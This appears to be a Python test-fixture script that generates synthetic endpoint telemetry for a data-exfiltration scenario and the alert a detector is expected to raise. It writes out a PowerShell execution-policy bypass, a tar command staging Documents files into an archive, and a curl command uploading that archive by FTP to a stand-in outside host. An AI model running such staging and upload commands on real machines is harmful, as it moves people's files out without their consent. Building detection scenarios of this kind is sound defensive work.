"""What the host of this story reported, and what must come out."""

from endpoint_events import Story

story = Story()
control = story.connection(server_port=21)
size, digest = story.file("survey.zip")
data = story.connection(sent=size)

pc = story.host("WKS-0157", ["10.20.0.57", "fd00:20::57"], "t.haas")
shell = pc.process("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -ep bypass", pc.explorer, -610.0)
archive = "C:\\ProgramData\\survey.zip"
packer = pc.process("tar.exe", f'"C:\\Windows\\system32\\tar.exe" -a -c -f {archive} -C {pc.profile}Documents Sites.docx "Network plan.pdf"', shell, -75.0)
pc.touch(packer, "create", archive, -74.9)
for when, name in ((-74.8, "Sites.docx"), (-74.7, "Network plan.pdf")):
    pc.touch(packer, "read", pc.profile + "Documents\\" + name, when, size=story.file("documents/" + name)[0])
pc.touch(packer, "write", archive, -74.6, size=size, sha256=digest)
pc.end(packer, -74.5)
sender = pc.process(
    "curl.exe",
    f'"C:\\Windows\\system32\\curl.exe" -g --ftp-port - -T {archive} ftp://survey:not-a-secret-7@[2001:db8:51::21]/in.zip',
    shell,
    -0.16,
)
pc.connect(sender, control)
pc.connect(sender, data)
pc.touch(sender, "read", archive, data, size=size)
pc.end(sender, control)

story.ftp_upload(data, "in.zip", size, sender)
story.alert(data, ["data-staged", "process-unexpected", "dual-use-program", "destination-rare"], 73, [("survey.zip", packer)], sender)
story.write()
